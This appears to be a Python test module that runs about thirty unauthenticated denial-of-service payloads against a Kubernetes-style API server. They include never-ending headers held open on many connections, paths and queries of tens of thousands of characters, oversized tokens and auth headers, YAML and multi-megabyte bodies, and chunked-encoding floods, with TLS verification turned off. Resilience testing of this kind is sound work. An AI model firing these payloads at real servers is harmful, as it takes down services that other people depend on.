"""Attacks by clients without credentials."""

import base64
import ssl
from contextlib import ExitStack, suppress

from hack.attacks.client import Answer, Door
from hack.attacks.costly.row import DEFAULT, YAML, Attack, Row

CONFIG_MAPS = f"{DEFAULT}/configmaps"


def _anonymous(door: Door) -> Door:
    """Return the same server, without credentials."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    return Door(door.port, tls)


def _asked(
    method: str, path: str, headers: dict[str, str], body: bytes | None = None, times: int = 20
) -> Attack:
    def attack(door: Door) -> list[Answer]:
        nobody = _anonymous(door)
        return nobody.raw(nobody.request(method, path, body, headers) * times, answers=times)

    return attack


def _endless_heads(connections: int, lines: int, size: int) -> Attack:
    """Send heads that do not end, and keep the connections."""

    def attack(door: Door) -> list[Answer]:
        nobody = _anonymous(door)
        head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(
            b"X-%d: %s\r\n" % (n, b"a" * size) for n in range(lines)
        )
        with ExitStack() as stack:
            for _ in range(connections):
                with suppress(OSError):
                    stack.enter_context(nobody.connect()).sendall(head)
            return [nobody.ask("GET", "/readyz")]

    return attack


def _raw(*pieces: bytes) -> Attack:
    return lambda door: _anonymous(door).raw(*pieces)


def _token(text: bytes) -> str:
    return base64.urlsafe_b64encode(text).decode().rstrip("=")


LARGE_HEAD = _token(b'{"alg":"RS256","kid":"a","x":[' + b"1," * 4_000 + b"1]}")
WATCHED = base64.urlsafe_b64encode(b"a" * 9_000).decode().rstrip("=")
ROWS = [
    Row("heads that do not end", _endless_heads(50, 120, 16_000), size=48),
    Row("heads of many short lines", _endless_heads(50, 120, 100), size=48),
    Row("timeouts of a thousand digits", _asked("GET", "/api?timeout=" + "1" * 999, {}, times=100)),
    Row("a path of escapes", _asked("GET", "/" + "%41" * 40_000, {})),
    Row("a path of slashes", _asked("GET", "/" * 120_000, {})),
    Row("a path of parts", _asked("GET", "/api/v1/namespaces/" + "a/" * 60_000, {})),
    Row("a query of parameters", _asked("GET", "/api?" + "a=b&" * 30_000, {})),
    Row("a query of escapes", _asked("GET", "/api?a=" + "%41" * 40_000, {})),
    Row("a selector of commas", _asked("GET", f"{CONFIG_MAPS}?labelSelector=" + "," * 100_000, {})),
    Row("a token of dots", _asked("GET", CONFIG_MAPS, {"Authorization": "Bearer " + "." * 15_000})),
    Row("a token with a large head", _asked("GET", CONFIG_MAPS, {"Authorization": f"Bearer {LARGE_HEAD}.e30.e30"})),
    Row("a token of a bootstrap user's form", _asked("GET", CONFIG_MAPS, {"Authorization": "Bearer abcdef." + "0" * 15_000})),
    Row("a password", _asked("GET", CONFIG_MAPS, {"Authorization": "Basic " + "QUFB" * 3_500})),
    Row("a token among protocols", _asked("GET", f"{CONFIG_MAPS}?watch=1", {
        "Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "YWFhYWFhYWFhYWFhYWFhYQ==",
        "Sec-WebSocket-Protocol": f"base64url.bearer.authorization.k8s.io.{WATCHED}, " + "a, " * 1_000 + "v4.channel.k8s.io"})),
    Row("impersonated groups", _asked("GET", CONFIG_MAPS, {"Impersonate-User": "a", **{
        f"Impersonate-Extra-k{n}": "v" * 100 for n in range(100)}})),
    Row("media types", _asked("GET", CONFIG_MAPS, {"Accept": "a/b;q=0.1," * 1_500})),
    Row("encodings", _asked("GET", CONFIG_MAPS, {"Accept-Encoding": "gzip;q=0.1," * 1_400})),
    Row("names of other hosts", _asked("GET", CONFIG_MAPS, {"Host": "a." * 8_000})),
    Row("users of a front proxy", _asked("GET", CONFIG_MAPS, {"X-Remote-User": "a" * 15_000, "X-Remote-Group": "g" * 15_000})),
    Row("agents", _asked("GET", CONFIG_MAPS, {"User-Agent": "a/" * 8_000})),
    Row("a body in YAML", _asked("POST", CONFIG_MAPS, YAML, b"a: &a [x]\n" + b"f: 1\n" * 50_000, times=3)),
    Row("a body of megabytes", _asked("POST", CONFIG_MAPS, {}, b"[" * 2_900_000, times=3)),
    Row("a body of a review", _asked(
        "POST", "/apis/authentication.k8s.io/v1/tokenreviews", YAML, b"f: 1\n" * 50_000, times=3)),
    Row("requests without a pause", _asked("GET", CONFIG_MAPS, {}, times=500)),
    Row("trailers", _raw(
        b"POST /api HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" + b"X: %s\r\n" % (b"a" * 1_000) * 2_000)),
    Row("extensions of a chunk", _raw(
        b"POST /api HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;" + b"a=b;" * 200_000)),
    Row("a line that does not end", _raw(b"GET /" + b"a" * 3_000_000)),
    Row("methods that do not exist", _asked("PROPFIND", CONFIG_MAPS, {})),
    Row("options", _asked("OPTIONS", "*", {}, times=100)),
]  # fmt: skip
